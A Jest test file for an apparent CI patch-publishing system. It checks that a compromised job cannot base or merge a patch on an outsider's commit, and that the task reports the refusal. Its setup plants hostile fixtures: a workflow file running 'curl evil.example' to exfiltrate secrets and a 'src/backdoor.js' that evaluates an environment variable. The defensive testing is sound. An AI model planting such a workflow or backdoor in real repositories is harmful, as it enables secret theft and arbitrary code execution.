/**
 * Class 3 of issue #10, end to end: the artifact chooses the commit its patch starts from or
 * merges. A compromised job (the hostile stand-in) names an outsider's commit (reachable in the
 * repository's object store, as a fork's commits are on GitHub) that carries a workflow and a
 * backdoor; publishing is bound to what was dispatched, so none of it reaches the default branch,
 * and the task says why.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  commitOf,
  defaultBranchUntouched,
  mainSha,
  nothingWrittenFor,
  runHostile,
  toldAbout,
  write,
  type HostileCase,
  type HostileRun,
} from './hostile-world.js';

const harmless = commitOf([write('notes/fix.md', 'a fix\n')]).commits;
const cases: Array<HostileCase & { told: string }> = [
  {
    name: 'the patch starts from an outsider commit',
    patch: { baseSha: '$FORK', commits: harmless },
    outcome: { baseSha: '$FORK' },
    told: 'the commit pinned when the attempt was dispatched',
  },
  {
    name: 'an implement patch merges an outsider commit',
    patch: { mergeParentSha: '$FORK', commits: harmless },
    told: 'only a resolve attempt may make a merge commit',
  },
  {
    name: 'a resolve patch for an implement attempt',
    patch: { mode: 'resolve', mergeParentSha: '$FORK', commits: harmless },
    told: 'it is a resolve patch, but a implement attempt was dispatched',
  },
  {
    name: 'the outcome names another base',
    patch: { commits: harmless },
    outcome: { baseSha: '$FORK' },
    told: 'the outcome names base',
  },
];

describe('class 3: the artifact chooses the base commit', () => {
  let run: HostileRun;

  beforeAll(async () => {
    run = await runHostile(cases, {
      setup: async (repo) => {
        const { octokit, owner, name } = repo;
        const head = mainSha(repo);
        const { data: commit } = await octokit.rest.git.getCommit({ owner, repo: name, commit_sha: head });
        const { data: tree } = await octokit.rest.git.createTree({
          owner,
          repo: name,
          base_tree: commit.tree.sha,
          tree: [
            {
              path: '.github/workflows/exfiltrate.yml',
              mode: '100644',
              type: 'blob',
              content:
                'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil.example" }] } }\n',
            },
            { path: 'src/backdoor.js', mode: '100644', type: 'blob', content: 'eval(process.env.X)\n' },
          ],
        });
        const { data: made } = await octokit.rest.git.createCommit({
          owner,
          repo: name,
          message: 'Outsider work',
          tree: tree.sha,
          parents: [head],
        });
        // An outsider's commit on top of main: a workflow that ships secrets out, and a backdoor.
        return { $FORK: made.sha };
      },
    });
  }, 150_000);

  afterAll(async () => {
    await run?.world.close();
  });

  it('the healthy task beside the attacks merged', () => {
    expect(run.repo.isClosed(run.healthy)).toBe(true);
  });

  it.each(cases)('$name: the default branch is untouched and the task says why', ({ name, told }) => {
    const number = run.tasks.get(name) as number;
    expect(defaultBranchUntouched(run)).toEqual([]);
    expect(run.repo.isClosed(number)).toBe(false);
    const text = toldAbout(run.repo, number);
    expect(text).toContain('The patch was refused');
    expect(text).toContain(told);
    expect(nothingWrittenFor(run, number)).toEqual([]);
  });
});
